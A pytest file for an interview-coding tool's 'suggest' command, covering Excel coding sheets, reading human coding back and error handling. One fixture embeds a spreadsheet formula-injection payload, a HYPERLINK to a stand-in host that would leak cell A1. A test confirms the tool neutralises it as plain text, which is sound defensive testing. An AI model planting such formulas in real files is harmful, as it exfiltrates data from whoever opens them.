"""``codingkit suggest`` (issue 13): the turns to hand-code next, the coding
sheet, and learning from it once filled in."""

from __future__ import annotations

import json
import math
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from codingkit import read_transcripts
from codingkit.cli import cli
from codingkit.coding.bundled import USER_WEIGHT, bundled_coder
from codingkit.coding.features import MIN_CONTENT_WORDS
from codingkit.errors import EvaluationError
from codingkit.evaluation import read_human_coding
from codingkit.segmenting import segment
from codingkit.suggest import CONTEXT_COLUMNS, SHEET_NAME, segment_scores, suggest


ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "transcripts"
THEMES = ["tidig_dialog", "behov", "kommersialisering", "forfarande", "risk_regelverk",
          "forankring", "samverkan", "resurser", "larande", "effekter"]

REPEATED = ("Vi bjöd in leverantörerna till en dialogträff innan vi skrev underlaget, "
            "för vi ville höra vad marknaden kunde erbjuda och vad som var möjligt.")
FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"klicka") om budgeten för projektet'


def _interview(k: int) -> str:
    return f"""Projekt: Testprojekt
Omgång: {k}
Roll: {"upphandlare" if k % 2 else "leverantör"}

I: Hur började ni?
IP: {REPEATED}
I: Mm.
IP: Ja, precis.
I: Hur gick det med pengarna?
IP: {FORMULA if k == 1 else "Vi sökte pengar från Vinnova men fick nej, så budgeten räckte inte till allt vi ville göra i projektet."}
I: Vad lärde ni er?
IP: Att personalen måste vara med från början, annars fungerar ingenting när tekniken väl kommer ut i verksamheten nummer {k}.
I: Tack.
IP: Tack själv.
"""


@pytest.fixture(scope="module")
def tiny(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("tiny") / "intervjuer"
    folder.mkdir()
    for k in (1, 2, 3):
        (folder / f"intervju_{k}.txt").write_text(_interview(k), encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def sample_sheet(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("suggest") / "granska.xlsx"
    res = CliRunner().invoke(cli, ["suggest", str(SAMPLE), "--n", "30", "--out", str(out)],
                             catch_exceptions=False)
    assert res.exit_code == 0, res.output
    assert "Chose 30 turns" in res.output
    return out


def _rows(path: Path) -> tuple[list[str], list[list]]:
    ws = openpyxl.load_workbook(path)[SHEET_NAME]
    rows = [[c.value for c in r] for r in ws.iter_rows()]
    return rows[0], rows[1:]


def test_sheet_has_n_distinct_turns_spread_over_interviews(sample_sheet):
    header, rows = _rows(sample_sheet)
    assert header == [*CONTEXT_COLUMNS, *THEMES, "om_annat", "comment"]
    assert len(rows) == 30
    keys = [(r[0], r[1]) for r in rows]
    assert len(set(keys)) == 30
    per_source = {}
    for src, _ in keys:
        per_source[src] = per_source.get(src, 0) + 1
    interviews = len({t.source for t in read_transcripts(SAMPLE)})
    assert len(per_source) >= interviews - 2  # spread: nearly every interview
    assert max(per_source.values()) <= math.ceil(30 / (interviews - 1))
    assert len({r[4] for r in rows}) >= 4  # roles
    # each row: a respondent turn of its transcript, with the question before it
    segs = {(s.source, s.turn): s for s in segment(read_transcripts(SAMPLE), "turn")}
    for r in rows:
        seg = segs[(r[0], r[1])]
        assert seg.speaker_role == "respondent" and seg.text == r[6]
        question = segs[(r[0], r[1] - 1)]  # the interviewer's turn before it
        assert question.speaker_role == "interviewer" and question.text == r[5]
        assert all(v is None for v in r[len(CONTEXT_COLUMNS):])  # left for the researcher


def test_sheet_has_validation_frozen_header_and_guesses(sample_sheet):
    book = openpyxl.load_workbook(sample_sheet)
    assert book.sheetnames == [SHEET_NAME, "Instruktioner"]
    ws = book[SHEET_NAME]
    assert ws.freeze_panes == "C2"
    (dv,) = ws.data_validations.dataValidation
    assert dv.type == "list" and dv.formula1 == '"0,1"'
    assert str(dv.sqref) == "I2:S31"  # the themes and om_annat
    assert ws.column_dimensions["G"].width == 80
    instructions = " ".join(str(c.value) for row in book["Instruktioner"].iter_rows()
                            for c in row if c.value)
    assert "Skriv 1" in instructions and "behov" in instructions
    assert "apply intervjuer/ --learn-from granska.xlsx" in instructions
    assert "evaluate intervjuer/ --gold granska.xlsx" in instructions
    # the guess is what apply's coder codes the turn with
    coder = bundled_coder()
    result = coder.code(read_transcripts(SAMPLE))
    themes = {}
    for c in result.coding_list:
        themes.setdefault(c.segment_id, set()).add(c.theme)
    for row in ws.iter_rows(min_row=2, values_only=True):
        guess = {t for t in (row[7] or "").split(", ") if t}
        assert guess == themes.get(f"{row[0]}:{row[1]}", set())


def test_scores_agree_with_the_coders_decisions():
    # the scores suggest ranks by are the coder's before its sense check
    # (which drops a coding resting on the rules' words alone: with the coder
    # of session 15, 01_projektledare_omg1.txt:62 samverkan at 0.53)
    coder = bundled_coder()  # a copy of its own
    coder.set_params(sense_check=False)
    transcripts = read_transcripts(SAMPLE / "syd")
    result = coder.code(transcripts)
    todo = [s for s in result.segment_list if s.speaker_role == "respondent"]
    scores, content = segment_scores(coder, result.segment_list, todo)
    codes = list(coder.codebook_.codes)
    coded = {(c.segment_id, c.code) for c in result.coding_list}
    for i, s in enumerate(todo):
        if content[i] < MIN_CONTENT_WORDS:
            continue
        for j, code in enumerate(codes):
            if coder.codebook_[code].parent is None:
                assert (scores[i, j] >= 0.5) == ((s.segment_id, code) in coded), (s, code)


def test_no_near_duplicates_no_content_free_turns_and_formulas_are_text(tiny, tmp_path):
    chosen = suggest(read_transcripts(tiny), bundled_coder(), n=50)
    table = chosen.table
    texts = list(table["text"])
    assert texts.count(REPEATED) == 1  # the same answer in three interviews: once
    assert not {"Ja, precis.", "Tack själv."} & set(texts)
    assert FORMULA in texts
    # the repeated answer once; the pengar answers: the formula and one of the
    # two identical others; the lärde answers differ by a number: once
    assert len(table) == 4
    out = tmp_path / "g.xlsx"
    res = CliRunner().invoke(cli, ["suggest", str(tiny), "--n", "50", "--out", str(out)],
                             catch_exceptions=False)
    assert res.exit_code == 0, res.output
    with zipfile.ZipFile(out) as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
    ws = openpyxl.load_workbook(out)[SHEET_NAME]
    cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)


def _fill(sheet: Path, out: Path, marks: dict[int, dict[str, object]]) -> list[tuple]:
    """Fill rows (2-based row → theme → value) of a sheet; the (source, turn) of each row."""
    book = openpyxl.load_workbook(sheet)
    ws = book[SHEET_NAME]
    header = [c.value for c in ws[1]]
    for r, values in marks.items():
        for theme, v in values.items():
            ws.cell(row=r, column=header.index(theme) + 1).value = v
    book.save(out)
    return [(ws.cell(row=r, column=1).value, ws.cell(row=r, column=2).value)
            for r in range(1, ws.max_row + 1)]


def test_filled_sheet_reads_back_as_turn_coding(sample_sheet, tmp_path):
    filled = tmp_path / "ifylld.xlsx"
    keys = _fill(sample_sheet, filled, {
        2: {"behov": 1, "forfarande": 1},        # two themes, the rest empty (= 0)
        3: {"larande": "1", "effekter": "0"},   # text cells as Excel may keep them
        4: {"behov": 0},                       # read, about no theme
        5: {"samverkan": 1.0, "resurser": 0},
        # row 6 onwards: empty, not read
    })
    with pytest.warns(Warning, match=r"read 4 of the 30 rows as coded; the 26 row\(s\) with "
                                     r"every theme cell empty \(om_annat too\) are left out as "
                                     r"not read yet"):
        human = read_human_coding(filled)
    assert human.kind == "turn"
    got = sorted(zip(human.codings["source"], human.codings["turn"], human.codings["code"]))
    want = sorted([(*keys[1], "behov"), (*keys[1], "forfarande"), (*keys[2], "larande"),
                   (*keys[4], "samverkan")])
    assert got == want
    assert sorted(zip(human.turns["source"], human.turns["turn"])) == sorted(keys[1:5])
    assert human.paths == [filled]


def test_a_deleted_theme_column_is_refused_naming_it(sample_sheet, tmp_path):
    """A researcher who deletes the column of a theme they did not code: the
    theme is not 0 in every row (not about it), the sheet is refused (E602),
    naming the file and the column, at once in evaluate and apply."""
    filled = tmp_path / "g_delcol.xlsx"
    _fill(sample_sheet, filled, {r: {t: int(t == "behov") for t in THEMES} for r in (2, 3, 4)})
    book = openpyxl.load_workbook(filled)
    ws = book[SHEET_NAME]
    header = [c.value for c in ws[1]]
    ws.delete_cols(header.index("tidig_dialog") + 1)
    book.save(filled)
    with pytest.raises(EvaluationError, match=r"has no column for the theme tidig_dialog "
                                              r".*put the column back.*0 or 1.*\[E602\]"):
        read_human_coding(filled)
    runner = CliRunner()
    for args in (["evaluate", str(SAMPLE), "--gold", str(filled), "--rules-only"],
                 ["apply", str(SAMPLE), "--learn-from", str(filled), "--out",
                  str(tmp_path / "res")]):
        res = runner.invoke(cli, args)
        assert res.exit_code == 1 and "Traceback" not in res.output
        [line] = [x for x in res.output.splitlines() if x.startswith("Error:")]
        assert line.startswith(f"Error: {filled}, line 1: ") and "tidig_dialog" in line
        assert line.endswith("[E602]")
    assert not (tmp_path / "res").exists()
    # two deleted: both named
    ws.delete_cols(header.index("larande"))  # one to the left now
    book.save(filled)
    with pytest.raises(EvaluationError, match=r"themes tidig_dialog, larande \("):
        read_human_coding(filled)
    # the column put back (with 0 or 1 per turn coded, here empty = 0): read as before
    _fill(sample_sheet, filled, {r: {t: int(t == "behov") for t in THEMES} for r in (2, 3, 4)})
    assert len(read_human_coding(filled).turns) == 3


def test_apply_and_evaluate_learn_from_a_filled_sheet(tiny, tmp_path, small_bundled):
    # the bundled coder is one learned from the sample alone (tests/conftest.py):
    # the same code paths, a tenth of the work of learning on top of it
    n_gold = small_bundled["learned_from"]["interviews"]
    sheet = tmp_path / "granska.xlsx"
    runner = CliRunner()
    res = runner.invoke(cli, ["suggest", str(tiny), "--out", str(sheet)],
                        catch_exceptions=False)
    assert res.exit_code == 0, res.output
    _, rows = _rows(sheet)
    marks = {}
    for r, row in enumerate(rows, start=2):  # a researcher who codes every turn
        marks[r] = {t: int(t in ("resurser", "larande") and r % 2 == 0) for t in THEMES}
        marks[r]["behov"] = 1
    filled = tmp_path / "ifylld.xlsx"
    _fill(sheet, filled, marks)
    out = tmp_path / "resultat"
    model = tmp_path / "kodare.ckm"
    res = runner.invoke(cli, ["apply", str(tiny), "--learn-from", str(filled),
                              "--min-positives", "1", "--save-model", str(model),
                              "--out", str(out), "-q"], catch_exceptions=False)
    assert res.exit_code == 0, res.output
    # on top of the gold the coder shipped with, the sheet's turns weighing more
    assert (f"and what it learned from its {n_gold} gold interviews and 4 turns of your coding"
            in res.output)
    # the next round: chosen by what the coder learned, the coded turns left out
    again = tmp_path / "granska2.xlsx"
    res = runner.invoke(cli, ["suggest", str(tiny), "--model", str(model), "--exclude",
                              str(filled), "--out", str(again)], catch_exceptions=False)
    assert res.exit_code == 0, res.output
    assert "Chose 0 turns" in res.output  # all 4 turns coded
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    learned = manifest["options"]["learned_from"]
    assert learned["files"][0]["path"] == str(filled)
    assert learned["turns"] == 4 and learned["weight"] == USER_WEIGHT
    assert learned["on_top_of"]["kind"] == "bundled"
    assert learned["on_top_of"]["interviews"] == n_gold == 12
    res = runner.invoke(cli, ["evaluate", "--gold", str(filled), "--pred", str(out)],
                        catch_exceptions=False)
    assert res.exit_code == 0, res.output
    assert f"{len(rows)} turns" in res.output


def test_exclude_skips_turns_already_coded(tiny, tmp_path):
    first = tmp_path / "omg1.xlsx"
    runner = CliRunner()
    assert runner.invoke(cli, ["suggest", str(tiny), "--n", "2", "--out", str(first)],
                         catch_exceptions=False).exit_code == 0
    keys = _fill(first, first, {2: {"behov": 1}, 3: {"behov": 0}})[1:3]
    second = tmp_path / "omg2.xlsx"
    res = runner.invoke(cli, ["suggest", str(tiny), "--n", "50", "--exclude", str(first),
                              "--out", str(second)], catch_exceptions=False)
    assert res.exit_code == 0, res.output
    _, rows = _rows(second)
    assert not set(keys) & {(r[0], r[1]) for r in rows}
    # the tiny corpus offers 4 turns (see above), 2 coded before
    assert len(rows) == 2


def test_apply_results_workbook_is_not_taken_for_human_coding(tmp_path):
    """codingkit.xlsx (apply --format xlsx) given to --learn-from is named
    for what it is, not reported as a bad theme cell."""
    from codingkit.errors import EvaluationError

    book = openpyxl.Workbook()
    book.active.title = "segments"
    book.active.append(["segment_id", "source", "project", "round", "role", "speaker",
                        "speaker_role", "turn", "unit", "start", "end", "text"])
    book.active.append(["a.txt:2", "a.txt", "Syd", "1", "", "IP", "respondent", 2, "turn", 0,
                        10, "Med en förstudie."])
    book.save(tmp_path / "codingkit.xlsx")
    with pytest.raises(EvaluationError, match=r"a table of codingkit's results \(codingkit's own "
                                              r"coding, not a human's\).*\[E602\]"):
        read_human_coding([tmp_path / "codingkit.xlsx"])


def test_turns_marked_about_something_else_are_read(sample_sheet, tmp_path):
    """A 1 in om_annat marks the turn as about something else than the
    evaluated work (and counts the row as read); a sheet without the column
    (written before it existed) reads as before; anything but 0/1 is refused."""
    filled = tmp_path / "annat.xlsx"
    keys = _fill(sample_sheet, filled, {
        2: {"om_annat": 1},                  # about something else, no theme filled
        3: {"behov": 1, "om_annat": 0},
        4: {"larande": 0, "om_annat": "1"},  # a text cell as Excel may keep it
        5: {"om_annat": 0},                  # a 0 alone says nothing: not read
    })
    with pytest.warns(Warning, match=r"read 3 of the 30 rows"):
        human = read_human_coding(filled)
    assert sorted(human.off_topic) == sorted([keys[1], keys[3]])
    assert sorted(zip(human.turns["source"], human.turns["turn"])) == sorted(keys[1:4])
    assert list(zip(human.codings["source"], human.codings["turn"], human.codings["code"])) \
        == [(*keys[2], "behov")]
    # without the column: as before
    book = openpyxl.load_workbook(filled)
    ws = book[SHEET_NAME]
    ws.delete_cols([c.value for c in ws[1]].index("om_annat") + 1)
    book.save(tmp_path / "old.xlsx")
    with pytest.warns(Warning, match=r"read 2 of the 30 rows"):
        old = read_human_coding(tmp_path / "old.xlsx")
    assert old.off_topic == [] and "off_topic" not in old.turns
    # a value that is not 0 or 1
    # 1 in om_annat and in a theme: the theme counts, with a warning
    _fill(sample_sheet, filled, {2: {"behov": 1, "om_annat": 1}})
    with pytest.warns(Warning, match=r"row\(s\) 2: 1 in om_annat and in a theme; read as "
                                     r"about the theme"):
        both = read_human_coding(filled)
    assert both.off_topic == [keys[1]] and len(both.codings) == 1
    _fill(sample_sheet, filled, {2: {"behov": 1, "om_annat": "ja"}})
    with pytest.raises(EvaluationError, match=r"cell S2 \(om_annat: about something else\) "
                                              r"holds 'ja'; expected 1, 0 or empty \[E603\]"):
        read_human_coding(filled)


def test_a_marks_csv_marks_turns_about_something_else(tmp_path):
    """gold/<set>_marks.csv: hard_negative and om_annat marks are turns about
    something else; content_free is a turn read, nothing more."""
    root = Path(__file__).resolve().parents[2] / "gold"
    human = read_human_coding([root / "heldout4_coding.csv", root / "heldout4_marks.csv"])
    marks = pd.read_csv(root / "heldout4_marks.csv")
    hard = marks[marks["mark"].str.startswith("hard_negative:")]
    assert sorted(set(human.off_topic)) == sorted(set(zip(hard["source"], hard["turn"])))
    bad = tmp_path / "marks.csv"
    bad.write_text("source,turn,mark\na.txt,2,om_annat\na.txt,4,privat\n", encoding="utf-8")
    (tmp_path / "c.csv").write_text("source,turn,code\na.txt,2,behov\n", encoding="utf-8")
    with pytest.raises(EvaluationError, match=r"marks.csv, line 3: unknown mark 'privat'"):
        read_human_coding([tmp_path / "c.csv", bad])


def test_a_theme_named_like_a_sheet_column_is_refused(tiny, tmp_path):
    """A codebook theme 'om_annat' would clash with the sheet's own column."""
    path = tmp_path / "kodbok.yaml"
    path.write_text('codebook:\n  id: prov\n  version: "1"\ncodes:\n'
                    '  - id: om_annat\n    label: Om annat\n    rules: [annat]\n'
                    '  - id: resurser\n    label: Resurser\n    rules: [resurser]\n',
                    encoding="utf-8")
    res = CliRunner().invoke(cli, ["suggest", str(tiny), "--codebook", str(path),
                                   "--out", str(tmp_path / "g.xlsx")])
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert "theme id 'om_annat' is also the name of a column of the coding sheet" in res.output
    assert res.output.rstrip().endswith("[E207]")
    assert not (tmp_path / "g.xlsx").exists()


def test_a_csv_header_naming_a_column_twice_is_refused(tmp_path):
    """'mark' and 'Mark' (or 'turn' and 'Turn'): one line, not an internal error."""
    (tmp_path / "c.csv").write_text("source,turn,code\na.txt,2,behov\n", encoding="utf-8")
    (tmp_path / "m.csv").write_text("source,turn,mark,Mark\na.txt,2,om_annat,\n",
                                    encoding="utf-8")
    with pytest.raises(EvaluationError, match=r"m\.csv, line 1: the header names the column "
                                              r"'mark' twice .*\[E602\]"):
        read_human_coding([tmp_path / "c.csv", tmp_path / "m.csv"])
